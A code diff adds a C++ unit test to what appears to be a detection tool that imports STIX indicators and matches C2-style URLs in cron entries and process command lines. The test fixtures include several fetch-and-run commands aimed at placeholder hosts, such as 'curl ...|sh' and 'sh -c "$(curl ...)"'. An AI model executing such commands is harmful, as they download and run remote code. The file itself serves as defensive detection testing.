@@ -203,6 +203,44 @@ TEST(ImportedPolicy, TheMatcherFindsAnotherThingThanTheFeedNamed) {
   EXPECT_THAT(found(scan::Object(cron)), IsEmpty());
 }
 
+TEST(ImportedPolicy, APartOfAUrlIsFoundInThePathOfAFile) {
+  const auto written = write_policy(read(Format::kStix,
+                                         R"({"type":"indicator","pattern_type":"stix","pattern":)"
+                                         R"("[url:value LIKE '%/cron.php' OR )"
+                                         R"(url:value LIKE '%/gate.php?id=%' OR )"
+                                         R"(url:value LIKE 'http://c2.example/%']"})",
+                                         "bundle.json"),
+                                    head());
+  const auto result = compiled(written.yaml);
+  ASSERT_TRUE(result.ok()) << compiler::lint_text(result.diagnostics, written.yaml);
+  const auto matcher = scan::Matcher::compile(result.policy);
+  ASSERT_TRUE(matcher) << matcher.error().message;
+  const auto is_found = [&](const std::string& command) {
+    scan::PersistenceFacts cron;
+    cron.identity.kind = model::PersistenceKind::kCron;
+    cron.identity.command = command;
+    scan::ProcessFacts process;
+    process.identity.command_line = command;
+    bool starts = false, runs = false;
+    for (std::uint16_t d = 0; d < result.policy.detections.size(); ++d)
+      if (result.policy.detections[d].object == model::ObjectKind::kPersistence)
+        starts = starts || matcher->match(d, scan::Object(cron)) == scan::Truth::kYes;
+      else
+        runs = runs || matcher->match(d, scan::Object(process)) == scan::Truth::kYes;
+    EXPECT_EQ(starts, runs) << command;
+    return starts;
+  };
+  for (const char* command :
+       {"curl -s http://198.51.100.7/cron.php", "curl 'HTTPS://c3.example/x/Cron.php' -o /tmp/x",
+        "sh -c \"$(curl http://c3.example/cron.php)\"", "curl http://c3.example/cron.php|sh",
+        "wget http://c3.example/gate.php?id=7 -O -", "curl http://c2.example/anything"})
+    EXPECT_TRUE(is_found(command)) << command << "\n" << written.yaml;
+  for (const char* command :
+       {"php -f /var/www/nextcloud/cron.php", "curl http://c3.example/cron.php5",
+        "curl http://c3.example/ && php /var/www/cron.php", "php /srv/gate.php?id=7"})
+    EXPECT_FALSE(is_found(command)) << command << "\n" << written.yaml;
+}
+
 TEST(ImportedPolicy, WhatAFeedSaysAboutWindowsIsNotFoundThere) {
   std::vector<Indicator> all;
   for (const auto& [format, source, text] :
